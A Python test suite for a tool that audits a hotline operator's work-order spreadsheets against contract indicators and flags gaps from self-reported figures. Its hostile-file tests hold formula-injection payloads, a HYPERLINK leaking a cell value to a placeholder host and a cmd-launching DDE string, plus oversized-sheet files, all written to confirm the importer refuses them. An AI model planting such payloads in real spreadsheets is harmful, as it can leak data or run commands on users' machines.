"""Issue 16: indicators computed from the hotline's own work-order records, each figure worked out by hand
from the clause it names; the operator's figure kept beside the records' and a difference beyond the
tolerance made a finding; bad rows listed with row and column, left out only by the inspector's choice."""
import datetime as dt
import json
from decimal import Decimal

import pytest

from auditor.calendar import Period
from auditor.cli import main
from auditor.errors import InputError, StateError
from auditor.model import MeasurementKind, Status
from auditor.operations import months as month_ops
from auditor.operations.workorders import import_file
from auditor.scoring import Measurement
from auditor.service import finalize_month, month_result
from auditor.workorder_service import annex_rows, failing_workbook, month_view
from tests.core.builders import record
from tests.core.hostile import refused, state
from tests.core.workorder_files import HEADERS, month_of_orders, write_csv, write_raw_xlsx, write_xlsx

OCT, FEB = Period(2025, 10), Period(2026, 2)
T = dt.datetime


def henan_october() -> list[list]:
    """henan 2025-10, across 国庆: 10-01…10-08 are holidays, 09-28 (Sun) and 10-11 (Sat) make-up workdays."""
    return [HEADERS,
            # 工单编号, 渠道, 工单类型, 受理时间, 首次回应时间, 办结时间, 是否转办, 是否退回, 是否回访, 回访时间, 需申诉
            ["HN-A", "网站", "咨询", T(2025, 10, 1, 9), T(2025, 10, 9, 23, 59, 59), T(2025, 10, 10, 10),
             "是", "否", "是", None, "否"],
            ["HN-B", "微信", "投诉", T(2025, 10, 8, 20), T(2025, 10, 10, 0, 0, 1), T(2025, 10, 12, 10),
             "是", "否", None, T(2025, 10, 13, 9), "否"],
            ["HN-C", "APP", "咨询", T(2025, 10, 10, 15), T(2025, 10, 11, 16), T(2025, 10, 11, 17), "是", "否", "否",
             None, "否"],
            ["HN-D", "网站", "咨询", T(2025, 10, 10, 15), T(2025, 10, 12, 9), T(2025, 10, 13, 10), "否", None, None,
             None, "否"],
            ["HN-E", "微信", "咨询", T(2025, 10, 11, 10), T(2025, 10, 13, 18), T(2025, 10, 14, 9), "否", None, None,
             None, "否"],
            ["HN-F", "微信", "咨询", T(2025, 10, 15, 10), None, None, "否", None, None, None, "否"],
            ["HN-G", "电话", "投诉", T(2025, 10, 16, 10), T(2025, 10, 20, 10), T(2025, 10, 21, 10), "是", "是", "是",
             None, "否"],
            ["HN-H", "网站", "咨询", T(2025, 10, 16, 11), T(2025, 10, 25, 11), T(2025, 10, 26, 11), "否", None, None,
             None, "是"],
            ["HN-K1", "电话", "知识更新通知", T(2025, 10, 20, 9), None, T(2025, 10, 21, 9), "否", None, None, None,
             "否"],
            ["HN-K2", "电话", "知识更新通知", T(2025, 10, 20, 9), None, T(2025, 10, 21, 9, 0, 1), "否", None, None,
             None, "否"]]


@pytest.fixture
def henan(file_store):
    henan = file_store.contracts.get("henan-2025")
    record(file_store, henan, "2025-10")   # the operator's report: every item at its target
    return henan


def imported(store, tmp_path, contract="henan-2025", period=OCT, rows=None, name="工单.xlsx", **options):
    path = write_xlsx(tmp_path / name, rows if rows is not None else henan_october())
    return import_file(store, contract, period, path, **options).value


def items(store, contract_id, period):
    return {v.code: v for v in month_view(store, store.contracts.get(contract_id), period)}


def test_henan_items_from_the_records_across_national_day(file_store, henan, tmp_path):
    summary = imported(file_store, tmp_path)
    assert summary.orders == 10 and summary.filled == ("HN-02", "HN-03", "HN-04", "HN-08")
    found = items(file_store, "henan-2025", OCT)
    # 第十一条 表第2项: 网络工单 1 个工作日内回应, 需申诉 left out. 网络: A B C D E F (H 需申诉, G K phone).
    # A 10-01 (holiday) → the 1st working day after is 10-09 → due 10-10 00:00; answered 10-09 23:59:59: on time.
    # B 10-08 → due 10-10 00:00; answered 00:00:01: 1 s late. C 10-10 (Fri) → 10-11 is a make-up Saturday →
    # due 10-12 00:00; answered 10-11 16:00: on time. D same due, answered 10-12 09:00 (Sun): 9 h late.
    # E 10-11 (make-up Sat) → 10-12 Sun off → 10-13 → due 10-14 00:00: on time. F never answered. → 3/6 = 50 %.
    hn02 = found["HN-02"].result
    assert (hn02.numerator, hn02.denominator, dict(hn02.excluded)) == (3, 6, {"appeal": 1})
    assert [(f.number, f.reason, f.late_seconds) for f in hn02.failing] == [
        ("HN-B", "超时", 1), ("HN-D", "超时", 9 * 3600), ("HN-F", "未回应", None)]
    assert hn02.failing[1].deadline == T(2025, 10, 12)
    # 表第3项 交办单退回率 ≤ 1 %: 转办 A B C G, returned G → 1/4 = 25 %, the returned order listed
    hn03 = found["HN-03"].result
    assert (hn03.numerator, hn03.denominator) == (1, 4) and [f.number for f in hn03.failing] == ["HN-G"]
    # 表第4项 回访率: 转办 A B C G; visited A (是), B (a 回访时间), G → 3/4 = 75 %, C not visited
    hn04 = found["HN-04"].result
    assert (hn04.numerator, hn04.denominator) == (3, 4)
    assert [(f.number, f.reason) for f in hn04.failing] == [("HN-C", "未回访")]
    # 表第8项 知识库更新 24 小时内: K1 done exactly 24 h after (inclusive), K2 one second later → 1/2
    hn08 = found["HN-08"].result
    assert (hn08.numerator, hn08.denominator) == (1, 2) and hn08.failing[0].late_seconds == 1
    assert "HN-07" not in found   # quarterly: assessed in November, the quarter's last month

    # the records, not the operator's word, are scored: four items fail, 1 % of ¥6,468,000.00 each
    result = month_result(file_store, henan, OCT)
    assert {i.code for i in result.items if i.status is Status.FAIL} == {"HN-02", "HN-03", "HN-04", "HN-08"}
    assert result.deduction_total == Decimal("258720.00")
    assert "工单记录计算" in result.item("HN-02").detail
    month = file_store.months.load("henan-2025", OCT)
    computed = month.measurements["HN-02"]
    assert computed.kind is MeasurementKind.COMPUTED and (computed.numerator, computed.denominator) == (3, 6)
    assert summary.sha256 in computed.note
    # the file itself is kept as evidence under its SHA-256
    evidence = file_store.evidence.list("henan-2025", OCT)
    assert [e.sha256 for e in evidence] == [summary.sha256] and file_store.evidence.verify(evidence[0])
    assert file_store.verify_audit().ok


def test_the_operators_figure_is_kept_and_a_difference_becomes_a_finding(file_store, henan, tmp_path):
    summary = imported(file_store, tmp_path)
    # the operator reported every item at its target (100 %, 1 %, 100 %, 100 %): each is far from the records
    assert set(summary.mismatches) == {"HN-02", "HN-03", "HN-04", "HN-08"}
    found = items(file_store, "henan-2025", OCT)
    assert found["HN-02"].comparison.reported == Decimal(100) and found["HN-02"].comparison.difference == 50
    finding = next(f for f in file_store.findings.list("henan-2025", OCT) if f.key == "HN-02" and
                   f.source == "workorders")
    assert "自报数据与工单记录不符" in finding.title
    assert "乙方自报 100.00%" in finding.detail and "3/6" in finding.detail
    assert "超出容差 0.5 个百分点" in finding.detail
    # the failing orders are the finding's annex
    assert [row[0] for row in annex_rows(file_store, finding)] == ["HN-B", "HN-D", "HN-F"]
    assert annex_rows(file_store, finding)[0][7] == "1秒"

    # the operator's corrected figure, typed after the import, is kept beside the records (which stay scored):
    # 50.4 % is 0.4 points from 50 % (within 0.5): no finding; 50.6 % is 0.6 points: a finding again
    month_ops.set_measurement(file_store, "henan-2025", OCT, "HN-02",
                              Measurement("HN-02", MeasurementKind.VALUE, value=Decimal("50.4")))
    assert file_store.months.load("henan-2025", OCT).measurements["HN-02"].kind is MeasurementKind.COMPUTED
    assert file_store.workorders.reported("henan-2025", OCT)["HN-02"].value == Decimal("50.4")
    assert not [f for f in file_store.findings.list("henan-2025", OCT)
                if f.source == "workorders" and f.key == "HN-02"]
    month_ops.set_measurement(file_store, "henan-2025", OCT, "HN-02",
                              Measurement("HN-02", MeasurementKind.VALUE, value=Decimal("50.6")))
    assert [f.key for f in file_store.findings.list("henan-2025", OCT) if f.source == "workorders"].count("HN-02") == 1
    # an exemption is the inspector's decision: it takes the item's place
    month_ops.set_measurement(file_store, "henan-2025", OCT, "HN-02",
                              Measurement("HN-02", MeasurementKind.EXEMPT, reason="系统故障，经甲方确认"))
    assert month_result(file_store, henan, OCT).item("HN-02").status is Status.EXEMPT


def test_recording_the_month_again_keeps_the_computed_figures(file_store, henan, tmp_path):
    imported(file_store, tmp_path)
    record(file_store, henan, "2025-10", {"HN-04": {"value": "80"}})   # the operator's revised report
    month = file_store.months.load("henan-2025", OCT)
    assert month.measurements["HN-04"].kind is MeasurementKind.COMPUTED
    assert file_store.workorders.reported("henan-2025", OCT)["HN-04"].value == Decimal("80")
    assert month_result(file_store, henan, OCT).deduction_total == Decimal("258720.00")


def test_a_finalised_month_takes_no_import(file_store, henan, tmp_path):
    finalize_month(file_store, henan, OCT)
    with pytest.raises(StateError, match="已定稿"):
        imported(file_store, tmp_path)


def luoyang_february() -> list[list]:
    """luoyang 2026-02, across 春节: 02-15…02-23 are holidays, 02-14 (Sat) and 02-28 (Sat) make-up workdays."""
    header = ["工单编号", "渠道", "受理时间", "首次回应时间", "办结时间", "签收时间", "是否争议", "争议时间",
              "转派时间", "是否转办", "是否二次交办", "承办单位原因", "是否回访", "不合理工单"]

    def row(number, channel, received, **values):
        fields = {"首次回应时间": None, "办结时间": None, "签收时间": None, "是否争议": None, "争议时间": None,
                  "转派时间": None, "是否转办": "否", "是否二次交办": "否", "承办单位原因": "否", "是否回访": "否",
                  "不合理工单": "否", **values}
        return [number, channel, received, *(fields[h] for h in header[3:])]

    return [header,
            row("LY-P1", "省派", T(2026, 2, 13, 17), 签收时间=T(2026, 2, 14, 10), 办结时间=T(2026, 2, 14, 12),
                是否回访="是", 是否转办="是"),
            row("LY-P2", "省派", T(2026, 2, 13, 18), 签收时间=T(2026, 2, 24, 9)),
            row("LY-P3", "省派", T(2026, 2, 14, 11), 签收时间=T(2026, 2, 24, 20)),
            row("LY-P4", "省派", T(2026, 2, 27, 16), 签收时间=T(2026, 3, 2, 8)),
            row("LY-D1", "电话", T(2026, 2, 12, 9), 是否争议="是", 争议时间=T(2026, 2, 13, 17, 30),
                转派时间=T(2026, 2, 14, 9)),
            row("LY-D2", "电话", T(2026, 2, 12, 10), 是否争议="是", 争议时间=T(2026, 2, 13, 18),
                转派时间=T(2026, 2, 16, 10)),
            row("LY-D3", "电话", T(2026, 2, 25, 10), 争议时间=T(2026, 2, 25, 11)),
            row("LY-W1", "微信", T(2026, 2, 2, 10), 首次回应时间=T(2026, 2, 2, 10, 3), 办结时间=T(2026, 2, 3, 10),
                是否回访="是"),
            row("LY-W2", "APP", T(2026, 2, 2, 11), 首次回应时间=T(2026, 2, 2, 11, 3, 1), 办结时间=T(2026, 2, 3, 11)),
            row("LY-W3", "网站", T(2026, 2, 3, 9), 首次回应时间=T(2026, 2, 3, 9, 0, 30), 办结时间=T(2026, 2, 3, 12),
                不合理工单="是"),
            row("LY-T1", "电话", T(2026, 2, 5, 9), 是否转办="是"),
            row("LY-T2", "电话", T(2026, 2, 5, 10), 是否转办="是", 是否二次交办="是"),
            row("LY-T3", "电话", T(2026, 2, 5, 11), 是否转办="是", 是否二次交办="是", 承办单位原因="是")]


def test_luoyang_items_from_the_records_across_spring_festival(file_store, tmp_path):
    luoyang = file_store.contracts.get("luoyang-2025")
    record(file_store, luoyang, "2026-02")
    summary = imported(file_store, tmp_path, "luoyang-2025", FEB, luoyang_february())
    assert set(summary.filled) == {"LY-03", "LY-05", "LY-06", "LY-16", "LY-24"}
    found = items(file_store, "luoyang-2025", FEB)
    # 附件2 第6项 省派工单及时签收率 (1 个工作日, the reading in the contract's data): P1 02-13 (Fri) → 02-14 is a
    # make-up Saturday → due 02-15 00:00, signed 02-14: on time; P2 the same due, signed 02-24 09:00: 9 days 9 h
    # late; P3 02-14 → 02-15…02-23 off → 02-24 → due 02-25 00:00, signed 02-24 20:00: on time; P4 02-27 (Fri) →
    # 02-28 make-up Saturday → due 03-01 00:00, signed 03-02 08:00: 1 day 8 h late. → 2/4 = 50 %
    ly06 = found["LY-06"].result
    assert (ly06.numerator, ly06.denominator) == (2, 4)
    assert [(f.number, f.late_seconds) for f in ly06.failing] == [("LY-P2", 9 * 86400 + 9 * 3600),
                                                                   ("LY-P4", 86400 + 8 * 3600)]
    # 第3项 争议工单转派及时率: D1 disputed 02-13 17:30, re-dispatched 02-14 09:00 (make-up Sat) ≤ 02-15 00:00;
    # D2 disputed 02-13 18:00, re-dispatched 02-16 10:00: 1 day 10 h late; D3 disputed (its 争议时间) never
    # re-dispatched → 1/3
    ly03 = found["LY-03"].result
    assert (ly03.numerator, ly03.denominator) == (1, 3)
    assert [(f.number, f.reason, f.late_seconds) for f in ly03.failing] == [
        ("LY-D2", "超时", 86400 + 10 * 3600), ("LY-D3", "未转派", None)]
    # 第24项 180 秒内响应: W1 exactly 180 s (on time), W2 181 s, W3 30 s → 2/3
    ly24 = found["LY-24"].result
    assert (ly24.numerator, ly24.denominator) == (2, 3) and ly24.failing[0].late_seconds == 1
    # 第5项 回访, 不合理工单 left out: done W1 W2 W3 P1, W3 不合理 → visited W1 P1 of 3 → 2/3
    ly05 = found["LY-05"].result
    assert (ly05.numerator, ly05.denominator, dict(ly05.excluded)) == (2, 3, {"unreasonable": 1})
    # 第16项 (一次交办准确率 reading): 转办 P1 T1 T2 T3, T3 承办单位原因 left out, T2 二次交办 → 2/3
    ly16 = found["LY-16"].result
    assert (ly16.numerator, ly16.denominator) == (2, 3) and [f.number for f in ly16.failing] == ["LY-T2"]
    # 附件2: every failed item scores 0: 100 − (5 + 5 + 5 + 3 + 3) = 79
    assert month_result(file_store, luoyang, FEB).score == Decimal(79)


def test_a_quarterly_item_counts_the_quarters_imports(file_store, tmp_path):
    """HN-07 (季度, 24 小时): the quarter Sep–Nov is assessed in November from the three months' records."""
    henan = file_store.contracts.get("henan-2025")

    def month(period: Period, received: dt.datetime, done: dt.datetime) -> list[list]:
        return [HEADERS, [f"HOT-{period}", "电话", "热点问题", received, None, done, "否", None, None, None, "否"]]

    for period in (Period(2025, 9), Period(2025, 11)):
        record(file_store, henan, str(period))
    imported(file_store, tmp_path, period=Period(2025, 9), rows=month(Period(2025, 9), T(2025, 9, 10, 9),
                                                                        T(2025, 9, 11, 8)), name="9.xlsx")
    nov = month(Period(2025, 11), T(2025, 11, 3, 9), T(2025, 11, 3, 20))
    imported(file_store, tmp_path, period=Period(2025, 11), rows=nov, name="11.xlsx")
    assert items(file_store, "henan-2025", Period(2025, 11))["HN-07"].result.reason == "缺少 2025-10 的工单记录"
    record(file_store, henan, "2025-10")
    imported(file_store, tmp_path, rows=month(OCT, T(2025, 10, 20, 10), T(2025, 10, 21, 10, 0, 1)), name="10.xlsx")
    imported(file_store, tmp_path, period=Period(2025, 11), rows=nov, name="11.xlsx")
    # September 23 h, October 24 h 1 s (late), November 11 h → 2/3
    hn07 = items(file_store, "henan-2025", Period(2025, 11))["HN-07"].result
    assert (hn07.numerator, hn07.denominator, hn07.months) == (2, 3, ("2025-09", "2025-10", "2025-11"))
    assert hn07.failing[0].month == "2025-10"


def test_items_the_file_cannot_answer_are_left_to_the_inspector(file_store, henan, tmp_path):
    rows = [["工单编号", "受理时间", "渠道", "首次回应时间"],
            ["X1", T(2025, 10, 9, 9), "电话", T(2025, 10, 9, 10)]]
    summary = imported(file_store, tmp_path, rows=rows)
    found = items(file_store, "henan-2025", OCT)
    assert found["HN-02"].result.status == "empty"              # no 网络 order: 0/0 is no figure
    assert "是否转办" in found["HN-03"].result.reason              # no such column
    assert summary.filled == ()
    assert file_store.months.load("henan-2025", OCT).measurements["HN-02"].kind is MeasurementKind.VALUE


def test_importing_again_gives_back_the_operators_figure_where_the_records_no_longer_answer(file_store, henan,
                                                                                           tmp_path):
    imported(file_store, tmp_path)
    imported(file_store, tmp_path, rows=[["工单编号", "受理时间", "渠道"], ["X1", T(2025, 10, 9, 9), "电话"]],
             name="second.xlsx")
    month = file_store.months.load("henan-2025", OCT)
    assert month.measurements["HN-02"].kind is MeasurementKind.VALUE and month.measurements["HN-02"].value == 100
    assert not file_store.workorders.reported("henan-2025", OCT)
    assert not [f for f in file_store.findings.list("henan-2025", OCT) if f.source == "workorders"]


# ---------------------------------------------------------------- reading: formats and header synonyms

def test_csv_in_gbk_and_utf8_with_bom_and_other_header_words(file_store, henan, tmp_path):
    rows = [["工单号", "来源渠道", "登记时间", "响应时间", "完成时间"],
            ["C1", "网站", "2025/10/9 9:00", "2025年10月9日 10时5分", "2025-10-09T18:00:00"],
            ["C2", "微信", "2025-10-13 09:00:00", "", ""]]
    for encoding in ("gbk", "utf-8-sig"):
        summary = import_file(file_store, "henan-2025", OCT, write_csv(tmp_path / f"{encoding}.csv", rows, encoding)
                              ).value
        assert summary.orders == 2
        hn02 = items(file_store, "henan-2025", OCT)["HN-02"].result
        assert (hn02.numerator, hn02.denominator) == (1, 2)


def test_xls_from_the_platform(file_store, henan, tmp_path):
    import xlwt

    book = xlwt.Workbook()
    sheet = book.add_sheet("工单")
    moment = xlwt.easyxf(num_format_str="yyyy-mm-dd hh:mm:ss")
    for r, row in enumerate([["工单编号", "渠道", "受理时间", "首次回应时间"],
                             ["X1", "网站", T(2025, 10, 9, 9), T(2025, 10, 9, 9, 30)],
                             ["X2", "网站", T(2025, 10, 9, 9), T(2025, 10, 14, 9)]]):
        for c, value in enumerate(row):
            sheet.write(r, c, value, moment) if isinstance(value, dt.datetime) else sheet.write(r, c, value)
    book.save(str(tmp_path / "工单.xls"))
    import_file(file_store, "henan-2025", OCT, tmp_path / "工单.xls")
    hn02 = items(file_store, "henan-2025", OCT)["HN-02"].result
    assert (hn02.numerator, hn02.denominator) == (1, 2) and hn02.failing[0].number == "X2"


def test_a_column_map_for_headers_no_synonym_knows(file_store, henan, tmp_path):
    rows = [["单据", "渠道", "提交时间", "回复用时点"], ["M1", "网站", T(2025, 10, 9, 9), T(2025, 10, 9, 9, 5)]]
    path = write_xlsx(tmp_path / "map.xlsx", rows)
    with pytest.raises(InputError, match="找不到工单记录必需的列"):
        import_file(file_store, "henan-2025", OCT, path)
    import_file(file_store, "henan-2025", OCT, path,
                column_map={"单据": "order_no", "提交时间": "received_at", "回复用时点": "responded_at"})
    assert items(file_store, "henan-2025", OCT)["HN-02"].result.numerator == 1
    # remembered for this operator: the next month's file needs no map
    assert file_store.personnel.column_map("河南龙翼信息技术有限公司", "workorders")["单据"] == "order_no"


# ---------------------------------------------------------------- hostile files

def test_bad_rows_are_listed_with_row_and_column_and_left_out_only_by_choice(file_store, henan, tmp_path):
    rows = henan_october() + [
        ["HN-A", "网站", "咨询", T(2025, 10, 2, 9), T(2025, 10, 2, 10), None, "否", None, None, None, "否"],
        ["HN-X", "网站", "咨询", T(2025, 10, 22, 9), T(2025, 10, 22, 10), T(2025, 10, 21, 9), "否", None, None, None,
         "否"],
        ["HN-Y", "网站", "咨询", "昨天下午", None, None, "否", None, None, None, "否"],
        ["HN-Z", "网站", "咨询", T(2025, 9, 30, 9), None, None, "否", None, None, None, "否"],
        [None, "网站", "咨询", T(2025, 10, 22, 9), None, None, "否", None, None, None, "否"],
        ["HN-V", "网站", "咨询", T(2025, 10, 22, 9), None, None, "也许", None, None, None, "否"],
        ['=HYPERLINK("http://evil.example/","点此查看")', "网站", "咨询", T(2025, 10, 22, 9), None, None, "否", None,
         None, None, "否"]]
    path = write_xlsx(tmp_path / "bad.xlsx", rows)
    before = (file_store.months.load("henan-2025", OCT), file_store.evidence.list("henan-2025", OCT))
    with pytest.raises(InputError) as refusal:
        import_file(file_store, "henan-2025", OCT, path)
    problems = refusal.value.problems
    assert "7 行" in str(refusal.value)
    assert problems == [
        "第 12 行 A 列（工单编号）: “HN-A”与第 2 行重复",
        "第 13 行 F 列（办结时间）: 2025-10-21 09:00:00 早于受理时间 2025-10-22 09:00:00",
        "第 14 行 D 列（受理时间）: “昨天下午”不是时间（如 2025-10-09 10:00:00）",
        "第 15 行 D 列（受理时间）: 2025-09-30 09:00:00 不在 2025年10月内",
        "第 16 行 A 列（工单编号）: 不能为空",
        "第 17 行 G 列（是否转办）: 无法识别“也许”（应为 是/否）",
        "第 18 行 A 列（工单编号）: 不能为空"]   # a formula cell: read as its value, and it has none
    assert (file_store.months.load("henan-2025", OCT), file_store.evidence.list("henan-2025", OCT)) == before
    summary = import_file(file_store, "henan-2025", OCT, path, exclude_bad=True).value
    assert (summary.orders, summary.excluded_rows) == (10, 7)
    assert items(file_store, "henan-2025", OCT)["HN-02"].result.denominator == 6   # the figures of the good rows
    assert [e["row"] for e in file_store.workorders.excluded("henan-2025", OCT)] == [12, 13, 14, 15, 16, 17, 18]


def test_text_that_a_spreadsheet_would_run_as_a_formula_is_refused(file_store, henan, tmp_path):
    """CSV keeps =HYPERLINK(…) as text; opened in Excel from an export it would run. Listed, never carried."""
    rows = [["工单编号", "渠道", "受理时间", "首次回应时间"],
            ["F1", "网站", "2025-10-09 09:00:00", "2025-10-09 09:10:00"],
            ['=HYPERLINK("http://evil.example/?"&A1,"详情")', "网站", "2025-10-09 09:00:00", ""],
            ["F3", "@SUM(1+1)*cmd|' /C calc'!A0", "2025-10-09 09:00:00", ""],
            ["+F4", "网站", "2025-10-09 09:00:00", ""]]
    path = tmp_path / "inject.csv"
    path.write_text("\n".join(",".join('"' + c.replace('"', '""') + '"' for c in row) for row in rows),
                    encoding="utf-8")
    with pytest.raises(InputError) as refusal:
        import_file(file_store, "henan-2025", OCT, path)
    assert [p.split(": ")[0] for p in refusal.value.problems] == [
        "第 3 行 A 列（工单编号）", "第 4 行 B 列（渠道）", "第 5 行 A 列（工单编号）"]
    assert all("疑似公式注入" in p for p in refusal.value.problems)
    import_file(file_store, "henan-2025", OCT, path, exclude_bad=True)
    data, rows_written = failing_workbook(file_store, henan, OCT)
    from io import BytesIO

    from openpyxl import load_workbook

    book = load_workbook(BytesIO(data))
    assert all(cell.data_type != "f" for sheet in book for row in sheet.iter_rows() for cell in row)
    assert rows_written == 0 and items(file_store, "henan-2025", OCT)["HN-02"].result.denominator == 1


def test_a_refusal_shows_the_first_problems_and_counts_them_all(file_store, henan, tmp_path):
    rows = [HEADERS] + [[f"B{n}", "网站", "咨询", "不是时间", None, None, "否", None, None, None, "否"]
                        for n in range(250)]
    with pytest.raises(InputError) as refusal:
        import_file(file_store, "henan-2025", OCT, write_csv(tmp_path / "bad.csv", rows))
    assert "250 行（250 处）" in str(refusal.value)
    assert len(refusal.value.problems) == 201 and refusal.value.problems[-1] == "……另有 50 处"


def test_a_far_cell_is_refused_before_the_sheet_is_loaded(file_store, henan, tmp_path):
    rows = henan_october()
    far = write_raw_xlsx(tmp_path / "far.xlsx", rows, extra_cells='<c r="XFD1048576"><v>1</v></c>')
    with pytest.raises(InputError, match="表格范围过大"):
        import_file(file_store, "henan-2025", OCT, far)
    # written without cell references the far cell is found all the same (the exact scan)
    hidden = write_raw_xlsx(tmp_path / "implied.xlsx", rows, references=False, extra_cells='<c r="A1048576"/>')
    with pytest.raises(InputError, match="表格范围过大"):
        import_file(file_store, "henan-2025", OCT, hidden)
    # a declared <dimension> is the attacker's to write: ignored, the cells are what counts
    claimed = write_raw_xlsx(tmp_path / "claimed.xlsx", rows, dimension="A1:XFD1048576")
    assert import_file(file_store, "henan-2025", OCT, claimed).value.orders == 10
    implied = write_raw_xlsx(tmp_path / "implied-ok.xlsx", rows, references=False)
    assert import_file(file_store, "henan-2025", OCT, implied).value.orders == 10


def test_a_hidden_sheet_is_not_what_is_read(file_store, henan, tmp_path):
    perfect = [HEADERS, ["OK-1", "网站", "咨询", T(2025, 10, 9, 9), T(2025, 10, 9, 9, 1), None, "否", None, None,
                         None, "否"]]
    path = write_xlsx(tmp_path / "two.xlsx", henan_october(), hidden_first=perfect)
    assert import_file(file_store, "henan-2025", OCT, path).value.orders == 10
    assert items(file_store, "henan-2025", OCT)["HN-02"].result.numerator == 3


def test_cancelled_import_changes_nothing(file_store, henan, tmp_path):
    from auditor.workorders import Cancelled

    path = write_xlsx(tmp_path / "工单.xlsx", henan_october())
    with pytest.raises(Cancelled):
        import_file(file_store, "henan-2025", OCT, path, cancelled=lambda: True)
    assert file_store.workorders.import_info("henan-2025", OCT) is None


def test_a_hundred_thousand_orders_import_and_compute(file_store, tmp_path):
    """A busy month: 100,000 orders (every fifth 网站, one in a hundred answered four days late)."""
    henan = file_store.contracts.get("henan-2025")
    record(file_store, henan, "2025-10")
    path = write_raw_xlsx(tmp_path / "month.xlsx", month_of_orders(100_000))
    summary = import_file(file_store, "henan-2025", OCT, path).value
    assert summary.orders == 100_000
    hn02 = items(file_store, "henan-2025", OCT)["HN-02"].result
    # 网络 = 网站 + 微信 + APP = n % 5 in (1, 2, 3): 60,000 orders; the late ones are n % 100 == 0, all 电话
    assert (hn02.numerator, hn02.denominator) == (60_000, 60_000)
    # 转办 every third (n % 3 == 0): 33,334; returned when also n % 97 == 0: n % 291 == 0 → 344
    hn03 = items(file_store, "henan-2025", OCT)["HN-03"].result
    assert (hn03.numerator, hn03.denominator) == (344, 33_334)
    assert len(file_store.workorders.orders("henan-2025", OCT)) == 100_000


# ---------------------------------------------------------------- the command line

def test_cli_import_show_and_export(db, tmp_path, capsys):
    from openpyxl import load_workbook

    from tests.core.builders import with_store

    with_store(db, lambda store: record(store, store.contracts.get("henan-2025"), "2025-10"))
    path = write_xlsx(tmp_path / "工单.xlsx", henan_october())
    capsys.readouterr()
    assert main(["--db", str(db), "workorders", "import", "henan-2025", "2025-10", str(path)]) == 0
    out = capsys.readouterr().out
    assert "已导入 工单.xlsx：10 单" in out
    assert "HN-02 网络工单回应率：3/6 = 50.00%（要求 ≥100%，不达标）；乙方自报 100.00%，与工单记录不符" in out
    assert "说明：剔除 需申诉 1 单" in out
    assert main(["--db", str(db), "workorders", "show", "henan-2025", "2025-10", "--json"]) == 0
    data = json.loads(capsys.readouterr().out)
    hn02 = next(i for i in data["items"] if i["code"] == "HN-02")
    assert (hn02["numerator"], hn02["denominator"], hn02["beyond_tolerance"]) == (3, 6, True)
    assert [(f["number"], f["late"]) for f in hn02["failing"]] == [("HN-B", "1秒"), ("HN-D", "9小时"), ("HN-F", "")]
    out_file = tmp_path / "未达标工单.xlsx"
    assert main(["--db", str(db), "workorders", "export", "henan-2025", "2025-10", str(out_file)]) == 0
    book = load_workbook(out_file)
    assert [c.value for c in book["HN-02"][2]][:2] == ["HN-B", "3"]
    assert book["HN-02"]["H2"].value == "1秒" and book["HN-02"]["G3"].value == "2025-10-12 00:00:00"
    assert "已导出 6 单" in capsys.readouterr().out     # HN-02 3, HN-03 1, HN-04 1, HN-08 1
    assert main(["--db", str(db), "score", "henan-2025", "2025-10", "--json"]) == 0
    assert json.loads(capsys.readouterr().out)["deduction_total"] == "258720.00"


def test_cli_refusals_change_nothing(db, tmp_path, capsys):
    bad = write_xlsx(tmp_path / "dup.xlsx", henan_october() + [henan_october()[1]])
    refused(db, ["workorders", "import", "henan-2025", "2025-10", str(bad)], capsys,
            names=("第 12 行 A 列（工单编号）", "与第 2 行重复", "--exclude-bad"))
    far = write_raw_xlsx(tmp_path / "far.xlsx", henan_october(), extra_cells='<c r="A999999"><v>1</v></c>')
    refused(db, ["workorders", "import", "henan-2025", "2025-10", str(far)], capsys, names="表格范围过大")
    refused(db, ["workorders", "import", "henan-2025", "2025-10", str(bad), "--map", "工单编号"], capsys,
            names="表头=字段")
    refused(db, ["workorders", "import", "henan-2025", "2025-10", str(bad), "--map", "工单编号=nonsense"], capsys,
            names="没有字段“nonsense”")
    refused(db, ["workorders", "import", "henan-2025", "2027-10", str(bad)], capsys, names="服务期")
    refused(db, ["workorders", "show", "henan-2025", "2025-10"], capsys, names="尚未导入工单记录")
    refused(db, ["workorders", "export", "henan-2025", "2025-10", str(tmp_path / "x.csv")], capsys, names=".xlsx")
    # with the inspector's choice the duplicate is left out, listed, and the file is kept as evidence
    before = state(db)
    assert main(["--db", str(db), "workorders", "import", "henan-2025", "2025-10", str(bad), "--exclude-bad"]) == 0
    assert state(db) != before
    assert "剔除有误的 1 行" in capsys.readouterr().out
